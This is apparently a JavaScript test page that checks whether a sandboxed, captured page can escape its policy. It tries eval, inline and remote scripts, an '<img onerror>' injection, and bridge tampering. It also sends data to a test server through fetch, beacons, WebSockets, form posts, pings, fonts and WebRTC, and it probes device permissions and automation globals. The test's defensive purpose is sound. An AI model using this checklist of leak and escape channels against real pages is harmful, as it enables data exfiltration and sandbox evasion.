/*
 * What a captured page would try. Loaded by the page itself: code that a debugging tool evaluates is not
 * bound by the page's policy, so trying from there proves nothing. Each attempt writes down how far it came;
 * what reaches the outside is counted by the server that the tests listen with.
 */
import { target } from './config.js';

const results = {};
const soon = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (promise, ms) => Promise.race([promise, soon(ms).then(() => 'timeout')]);

const attempt = async (name, run) => {
  try {
    results[name] = await within(Promise.resolve().then(run), 4_000);
  } catch (error) {
    results[name] = `refused: ${error.name}`;
  }
};

const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};

await attempt('eval', () => (0, eval)('40 + 2'));
await attempt('function', () => new Function('return 42')());
await attempt('inlineScript', async () => {
  const script = document.createElement('script');
  script.append('globalThis.inlineRan = 42');
  document.body.append(script);
  await soon(50);
  return globalThis.inlineRan;
});
await attempt('innerHtml', async () => {
  document.createElement('div').innerHTML = '<img src="x" onerror="globalThis.handlerRan = 42">';
  // A busy machine takes its time to find that the picture is not there.
  for (let turn = 0; turn < 50 && globalThis.handlerRan === undefined; turn += 1) await soon(100);
  return globalThis.handlerRan;
});
await attempt('styleAttribute', () => {
  const element = add('div', {});
  element.setAttribute('style', 'width: 42px');
  return parseInt(getComputedStyle(element).width, 10);
});
await attempt('styleElement', () => {
  const element = add('div', { className: 'styled' });
  const style = document.createElement('style');
  style.append('.styled { width: 42px }');
  document.head.append(style);
  return parseInt(getComputedStyle(element).width, 10);
});
await attempt('base', () => {
  const base = document.createElement('base');
  base.href = `${target}/base/`;
  document.head.append(base);
  const changed = document.baseURI;
  base.remove();
  return changed.startsWith(target) ? 42 : 'unchanged';
});
await attempt('blobWorker', () => {
  const url = URL.createObjectURL(new Blob(['postMessage(42)'], { type: 'text/javascript' }));
  return new Promise((resolve, reject) => {
    const worker = new Worker(url);
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new DOMException('', 'WorkerError'));
  });
});
await attempt('serviceWorker', async () => {
  const registration = await navigator.serviceWorker.register('/worker.js');
  return registration === undefined ? 'refused: nothing registered' : 42;
});

// What leaves the page; counted outside.
await attempt('fetch', async () => (await fetch(`${target}/fetch`, { mode: 'no-cors' })).type);
await attempt('beacon', () => navigator.sendBeacon(`${target}/beacon`, 'x'));
await attempt('webSocket', () => {
  const socket = new WebSocket(`${target.replace('http', 'ws')}/socket`);
  return new Promise((resolve) => {
    socket.onopen = () => resolve(42);
    socket.onerror = () => resolve('error');
  });
});
await attempt('eventSource', () => {
  const source = new EventSource(`${target}/events`);
  return new Promise((resolve) => {
    source.onerror = () => resolve('error');
    source.onopen = () => resolve(42);
  });
});
for (const [tag, properties] of [
  ['img', { src: `${target}/image`, alt: '' }],
  ['video', { src: `${target}/video` }],
  ['object', { data: `${target}/object` }],
  ['embed', { src: `${target}/embed` }],
  ['iframe', { src: `${target}/frame`, title: 'x' }],
]) {
  await attempt(`load:${tag}`, () => void add(tag, properties));
}
for (const [rel, path] of [
  ['stylesheet', '/style'],
  ['icon', '/icon'],
  ['prefetch', '/prefetch'],
  ['preconnect', ''],
  ['manifest', '/manifest'],
]) {
  document.head.append(Object.assign(document.createElement('link'), { rel, href: target + path }));
}
await attempt('remoteScript', () => {
  add('script', { src: `${target}/script` });
});
await attempt('formPost', () => {
  add('iframe', { name: 'sink', title: 'sink' });
  const form = add('form', { method: 'post', action: `${target}/form`, target: 'sink' });
  form.submit();
});
await attempt('ping', () => {
  const link = add('a', { href: '#here', ping: `${target}/ping`, textContent: 'ping' });
  link.click();
});
await attempt('font', () => new FontFace('stolen', `url(${target}/font)`).load().then(() => 42));

// Devices, permissions, peers.
await attempt('iceCandidates', async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
  let count = 0;
  peer.onicecandidate = ({ candidate }) => {
    if (candidate !== null && candidate.candidate !== '') count += 1;
  };
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await soon(1_500);
  peer.close();
  return count;
});
for (const name of [
  'geolocation',
  'notifications',
  'camera',
  'microphone',
  'midi',
  'clipboard-read',
  'local-fonts',
]) {
  await attempt(`permission:${name}`, async () => (await navigator.permissions.query({ name })).state);
}
for (const name of ['usb', 'hid', 'serial', 'bluetooth', 'display-capture', 'payment']) {
  await attempt(`feature:${name}`, () => document.featurePolicy.allowsFeature(name));
}
await attempt('geolocation', () =>
  within(
    new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('position'),
        ({ code }) => resolve(code === 1 ? 'denied' : `code ${code}`),
      );
    }),
    1_500,
  ),
);

// The bridge: not to be replaced, not in any frame.
await attempt('replaceBridge', () => {
  globalThis.resguardoUnlock = { call: () => 42 };
  return globalThis.resguardoUnlock.call.length;
});
await attempt('changeBridge', () => {
  globalThis.resguardoUnlock.call = () => 42;
  return 42;
});
await attempt('bridgeInFrame', () => {
  const frame = add('iframe', { title: 'empty' });
  return typeof frame.contentWindow.resguardoUnlock + ' ' + typeof frame.contentWindow.resguardo;
});
await attempt(
  'hostNames',
  () =>
    Object.getOwnPropertyNames(globalThis).filter((name) => /^b[0-9a-f]{16}$|playwright|cdp/i.test(name))
      .length,
);

await attempt('popup', () => {
  globalThis.open(`${target}/popup`);
});
await attempt('download', () => {
  const url = URL.createObjectURL(new Blob(['stolen']));
  add('a', { href: url, download: 'stolen.txt' }).click();
});

// An element that a person may try to drag to the desktop.
add('img', { id: 'drag', src: '/dot.png', alt: 'dot', width: 60, height: 60, draggable: true });
globalThis.addEventListener('dragstart', (event) => {
  document.getElementById('dragged').textContent = String(event.defaultPrevented);
});
add('p', { id: 'dragged', textContent: 'not yet' });

await soon(1_000);
document.getElementById('results').textContent = JSON.stringify(results);
document.getElementById('results').dataset.done = 'true';

// Last, because where it works the page is gone.
globalThis.leave = undefined;
add('button', { id: 'leave', textContent: 'leave' }).addEventListener('click', () =>
  location.assign(`${target}/left`),
);
